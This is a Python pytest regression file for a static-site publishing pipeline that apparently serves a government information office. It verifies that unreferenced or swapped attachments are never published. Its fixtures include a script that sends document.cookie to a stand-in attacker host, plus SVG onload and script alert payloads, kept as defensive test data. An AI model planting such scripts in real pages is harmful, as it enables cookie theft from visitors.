"""Published means approved: only pages of passing items and files inside their hash are output.

Regression tests for issue #11's attacks "Files that no item references are published" and
"Attachments outside the hash", each in its own real repository, built by the real CLI.
"""

from __future__ import annotations

import hashlib
import io
import json

import pytest
from PIL import Image

from pipeline.checks.closure import approval, normal, page_items, published_attachments
from pipeline.model.attachments import references
from pipeline.model.reader import load_document
from pipeline.site.manifest import MANIFEST

from ..conftest import PRESS_RELEASE
from .test_privacy import NIK_MAN, make_pdf
from .test_safety import EXEMPT, EXEMPT_ITEM, SECRET, _approved

REL = "content/berita/2026-11-20-jembatan.md"
PAGE = "output/berita/2026/jembatan/index.html"


def _png(color=(10, 120, 200)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), color).save(buffer, format="PNG")
    return buffer.getvalue()


def _put(site, rel: str, data: bytes):
    path = site.root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _output(site) -> set[str]:
    out = site.root / "output"
    return {p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()}


# Files no item references: each would be stored script, personal data or exempt text on the
# office's own domain if it were copied.
STRAYS = {
    "halaman-skrip": ("content/lampiran/info.html",
                      b"<html><script>fetch('https://jahat.example/?c='+document.cookie)</script>"),
    "svg-onload": ("content/gambar/logo.svg",
                   b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'),
    "pdf-data-pribadi": ("content/lampiran/pemohon.pdf",
                         make_pdf(f"Pemohon NIK {NIK_MAN} HP 0812-3456-7890")),
    "pdf-dikecualikan": ("content/lampiran/register.pdf", make_pdf(SECRET)),
    "halaman-di-folder-naskah": ("content/berita/palsu.html", b"<h1>Pengumuman palsu</h1>"),
}


@pytest.mark.parametrize("name", sorted(STRAYS))
def test_a_file_no_item_references_is_listed_and_never_copied(site, capsys, name):
    rel, data = STRAYS[name]
    _put(site, rel, data)
    _approved(site, EXEMPT, EXEMPT_ITEM)
    _approved(site)
    code, out = site.ppid("check", capsys=capsys)
    line = next(x for x in out.splitlines() if "[berkas.tak-dirujuk]" in x)
    assert code == 0 and line.startswith(f"{rel}: peringatan: {rel} tidak dirujuk naskah mana pun")
    assert "rujuk dari naskah yang disetujui" in line
    assert site.ppid("build", capsys=capsys)[0] == 0
    stray = rel.removeprefix("content/")
    assert stray not in _output(site) and "berita/2026/jembatan/index.html" in _output(site)
    assert all(data not in p.read_bytes() for p in (site.root / "output").rglob("*") if p.is_file())
    # At --strict (as the publish workflow runs) the stray file stops publication outright.
    code, out = site.ppid("build", "--strict", capsys=capsys)
    assert code == 1 and f"{rel}: galat:" in out


def test_a_huge_stray_file_is_listed_and_never_copied(site, capsys):
    folder = site.root / "content/lampiran"
    folder.mkdir(parents=True)
    with (folder / "video.mp4").open("wb") as fh:
        fh.truncate(50 * 1024 * 1024)  # 50 MB, sparse: no time spent writing it
    _approved(site)
    code, out = site.ppid("check", capsys=capsys)
    assert "content/lampiran/video.mp4: peringatan:" in out
    assert site.ppid("build", capsys=capsys)[0] == 0
    assert not (site.root / "output/lampiran").exists()


def test_pelican_never_copies_a_file_outside_the_hash(site, capsys):
    """Pelican copies whatever a `{static}` link names; should a reference form ever escape the
    hash, the plugin still drops the file and the manifest would refuse it."""
    from pipeline.checks.run import run_check
    from pipeline.site.build import build_site

    _put(site, "content/lampiran/rahasia.txt", b"KATA SANDI SERVER")
    _approved(site, text=PRESS_RELEASE.replace(
        "sepanjang 60 meter.", "sepanjang 60 meter. [x]({static}/lampiran/rahasia.txt)"))
    result = run_check(site.root)
    (doc,) = [d for d in result.documents if d.rel == REL]
    assert list(doc.attachments) == ["{static}/lampiran/rahasia.txt"]  # the form is hashed
    doc.attachments = {}  # as if it were not: the page still links it
    build_site(site.root, result)
    assert "lampiran/rahasia.txt" not in _output(site)
    assert "berita/2026/jembatan/index.html" in _output(site)


# Every form a body can use to reference a file: each is in the hash, so it is published and
# cannot be swapped after the officials initialled it.
FORMS = {
    "situs-mutlak": ("lampiran/laporan.pdf", "[Laporan](/lampiran/laporan.pdf)"),
    "relatif-dengan-judul": ("lampiran/laporan.pdf", '[Laporan](lampiran/laporan.pdf "Unduh")'),
    "img-html": ("gambar/peta.png", '<img src="/gambar/peta.png" alt="Peta lokasi">'),
    "a-html-kutip-tunggal": ("lampiran/laporan.pdf", "<a href='lampiran/laporan.pdf'>Unduh</a>"),
    "rujukan": ("lampiran/laporan.pdf", "Lihat [laporan][1].\n\n[1]: /lampiran/laporan.pdf"),
    "gambar-rujukan": ("gambar/peta.png", "![Peta][peta]\n\n[peta]: <gambar/peta.png> 'Peta'"),
    "spasi-persen": ("lampiran/laporan tahunan.pdf", "[Laporan](/lampiran/laporan%20tahunan.pdf)"),
}


@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_reference_form_is_hashed_published_and_cannot_be_swapped(site, capsys, name):
    target, markup = FORMS[name]
    first = _png() if target.endswith(".png") else make_pdf("Laporan yang disetujui")
    _put(site, f"content/{target}", first)
    _approved(site, text=PRESS_RELEASE.replace("sepanjang 60 meter.",
                                               f"sepanjang 60 meter.\n\n{markup}"))
    doc = load_document(site.root, site.root / REL)
    assert [key for key, _ in references(doc)] == ["isi"]
    assert hashlib.sha256(first).hexdigest() in doc.attachments.values()
    assert site.ppid("build", capsys=capsys)[0] == 0
    assert (site.root / "output" / target).read_bytes() == first
    listed = json.loads((site.root / "output" / MANIFEST).read_text(encoding="utf-8"))["berkas"]
    assert listed[target]["sumber"] == f"content/{target}"
    assert listed[target]["persetujuan"][0]["naskah"] == REL
    # Swapped after approval: the initials no longer cover the item.
    _put(site, f"content/{target}", make_pdf("Versi lain") if target.endswith(".pdf") else
         _png((200, 10, 10)))
    code, out = site.ppid("check", REL, capsys=capsys)
    assert code == 1 and out.count("[paraf.basi]") == 2


@pytest.mark.parametrize("declared,line,code", [
    ('lampiran:\n  - {berkas: "lampiran/formulir.html"}\n', 12, "berkas.html"),
    ('bukti:\n  - {berkas: "gambar/bagan.svg", jenis: foto}\n', 12, "berkas.svg"),
    ("", 19, "berkas.html"),  # the two initials add two lines above the body
])
def test_html_and_svg_attachments_are_refused_with_the_items_line(site, capsys, declared, line,
                                                                  code):
    _put(site, "content/lampiran/formulir.html", b"<form><script>x()</script></form>")
    _put(site, "content/gambar/bagan.svg", b'<svg onload="x()"/>')
    text = PRESS_RELEASE.replace("paraf: {}", f"{declared}paraf: {{}}") if declared else \
        PRESS_RELEASE.replace("sepanjang 60 meter.",
                              "sepanjang 60 meter.\n\n[Formulir](/lampiran/formulir.html)")
    _approved(site, text=text)
    code_, out = site.ppid("build", capsys=capsys)
    finding = next(x for x in out.splitlines() if f"[{code}]" in x)
    assert code_ == 1 and finding.startswith(f"{REL}:{line}: ")
    assert not (site.root / "output").exists()


def test_links_to_pages_and_other_sites_are_not_attachments(site, capsys):
    body = ("[Berkala](/informasi/berkala/) [Feed](/feeds/semua.atom.xml) "
            "[Luar](https://bantulkab.go.id/a.pdf) [Surel](mailto:ppid@bantulkab.go.id) "
            "[Atas](#judul) [Halaman](/profil-ppid/index.html) <a href=\"//cdn.example/x.js\">x</a>")
    _approved(site, text=PRESS_RELEASE.replace("sepanjang 60 meter.", f"sepanjang 60 meter. {body}"))
    doc = load_document(site.root, site.root / REL)
    assert references(doc) == [] and doc.attachments == {}
    assert site.ppid("check", REL, capsys=capsys)[0] == 0


def test_an_attachment_changed_between_check_and_build_is_refused(site, capsys):
    """The manifest holds the approved digest: a file swapped after the check never goes out."""
    from pipeline.checks.run import run_check
    from pipeline.model.errors import BuildError
    from pipeline.site.build import build_site

    _put(site, "content/lampiran/laporan.pdf", make_pdf("Laporan yang disetujui"))
    _approved(site, text=PRESS_RELEASE.replace(
        "sepanjang 60 meter.", "sepanjang 60 meter. [Laporan](/lampiran/laporan.pdf)"))
    assert site.ppid("build", capsys=capsys)[0] == 0
    before = (site.root / "output/lampiran/laporan.pdf").read_bytes()
    result = run_check(site.root)
    assert result.errors == []
    _put(site, "content/lampiran/laporan.pdf", make_pdf(f"NIK {NIK_MAN}"))
    with pytest.raises(BuildError) as failed:
        build_site(site.root, result)
    assert "lampiran/laporan.pdf berbeda dari yang disetujui" in str(failed.value)
    assert (site.root / "output/lampiran/laporan.pdf").read_bytes() == before
    assert sorted(p.name for p in site.root.iterdir() if p.name.startswith("output")) == ["output"]


# -- checks/closure's own functions, on documents loaded from files --------------------------------


def test_published_attachments_lists_files_of_page_items_only(site):
    photo = _put(site, "content/gambar/jembatan.png", _png())
    body = "\n![Jembatan](gambar/jembatan.png)\n![lagi](/gambar/./jembatan.png)\n"
    site.write(REL, PRESS_RELEASE + body)
    plan = "content/berita/2026-11-21-draf.md"
    site.write(plan, PRESS_RELEASE.replace("status: terbit", "status: draf")
               .replace("nomor_urut: 12", "nomor_urut: 13") + "\n![x](gambar/lain.png)\n")
    _put(site, "content/gambar/lain.png", _png((1, 2, 3)))
    docs = [load_document(site.root, site.root / rel) for rel in (REL, plan)]
    everyone = published_attachments(docs, lambda d: True)
    assert sorted(everyone) == ["gambar/jembatan.png", "gambar/lain.png"]
    only_passing = published_attachments(docs, lambda d: d.rel == REL)
    (entry,) = only_passing.values()
    assert entry.source == "content/gambar/jembatan.png" and entry.items == [docs[0]]
    assert entry.digest == hashlib.sha256(photo.read_bytes()).hexdigest()
    assert page_items(docs, lambda d: d.status == "terbit") == [docs[0]]
    assert normal("gambar/./a/../b.png") == "gambar/b.png"
    site.approve(REL, [("kabid", "agus", "2026-11-20 10:00")])
    doc = load_document(site.root, site.root / REL)
    assert approval(doc) == {"naskah": REL, "sha256": doc.content_hash, "paraf": ["kabid"]}


def test_active_and_unreadable_references_never_enter_the_closure(site):
    _put(site, "content/lampiran/skrip.html", b"<script>alert(1)</script>")
    _put(site, "rahasia.pdf", b"%PDF-1.4 di luar content/")
    site.write(REL, PRESS_RELEASE + "\n[skrip](lampiran/skrip.html) [hilang](lampiran/tidak-ada.pdf)"
               " [luar](../rahasia.pdf)\n")
    doc = load_document(site.root, site.root / REL)
    assert len(references(doc)) == 3  # all three are references, none may be published
    assert published_attachments([doc], lambda d: True) == {}
